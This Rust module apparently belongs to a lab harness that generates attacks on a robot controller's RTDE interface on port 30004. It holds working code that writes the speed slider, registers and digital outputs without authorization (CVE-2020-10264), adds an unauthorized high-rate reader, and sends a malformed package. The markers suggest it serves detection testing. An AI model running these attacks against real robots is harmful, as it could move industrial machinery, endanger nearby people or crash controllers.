//! RTDE: speed slider, outputs and registers written by a client that has no business with them.

use super::{Attack, Marker, OUTSIDER_AND_PLC, Session, Target};
use crate::lab::rtde_client::{output_setup, package};

/// Asks for protocol version 2, sets up `names` as inputs and writes `values`.
fn write(
    name: &'static str,
    description: &'static str,
    source: &'static str,
    names: &'static str,
    values: &[u8],
) -> Attack {
    let mut payload = vec![1];
    payload.extend(values);
    let data = package(b'U', &payload);
    let act_data = data.clone();
    Attack {
        name,
        description,
        source,
        port: 30004,
        from: OUTSIDER_AND_PLC,
        markers: vec![Marker::Bytes(names.into()), Marker::Bytes(data)],
        act: Box::new(move |target: &Target| {
            let mut session = Session::open(target, 30004);
            session.send(&package(b'V', &[0, 2]));
            session.listen();
            session.send(&package(b'I', names.as_bytes()));
            session.listen();
            session.send(&package(b'S', &[]));
            session.listen();
            session.send(&act_data);
            session.linger(std::time::Duration::from_millis(100));
            session.done()
        }),
    }
}

pub(super) fn attacks() -> Vec<Attack> {
    let mut slider = 1_u32.to_be_bytes().to_vec();
    slider.extend(0.987_654_321_f64.to_be_bytes());
    let mut registers = 0x5afe_c0de_u32.to_be_bytes().to_vec();
    registers.extend(3.217_654_321_f64.to_be_bytes());
    vec![
        write(
            "rtde-speed-slider",
            "drives the speed slider",
            "CVE-2020-10264, RVD#1444, T0836",
            "speed_slider_mask,speed_slider_fraction",
            &slider,
        ),
        write(
            "rtde-registers",
            "writes program registers",
            "CVE-2020-10264, T0855",
            "input_int_register_25,input_double_register_30",
            &registers,
        ),
        write(
            "rtde-outputs",
            "switches digital outputs",
            "CVE-2020-10264, T0835",
            "standard_digital_output_mask,standard_digital_output",
            &[0xff, 0x5a],
        ),
        Attack {
            name: "rtde-second-reader",
            description: "a second client reads everything at 500 Hz",
            source: "T0801, T0802",
            port: 30004,
            from: OUTSIDER_AND_PLC,
            markers: vec![Marker::Bytes("actual_TCP_pose,joint_temperatures,tool_mode".into())],
            act: Box::new(|target| {
                let mut session = Session::open(target, 30004);
                session.send(&package(b'V', &[0, 2]));
                session.listen();
                session.send(&output_setup(500.0, "actual_TCP_pose,joint_temperatures,tool_mode"));
                session.listen();
                session.send(&package(b'S', &[]));
                session.linger(std::time::Duration::from_millis(100));
                session.done()
            }),
        },
        Attack {
            name: "rtde-size-zero",
            description: "a package whose size is smaller than its header",
            source: "T0814",
            port: 30004,
            from: OUTSIDER_AND_PLC,
            markers: vec![Marker::Bytes(vec![0, 0, b'U', 0x5a, 0xfe, 0x5a, 0xfe])],
            act: Box::new(|target| {
                let mut session = Session::open(target, 30004);
                session.send(&package(b'V', &[0, 2]));
                session.listen();
                session.send(&[0, 0, b'U', 0x5a, 0xfe, 0x5a, 0xfe]);
                session.listen();
                session.done()
            }),
        },
    ]
}
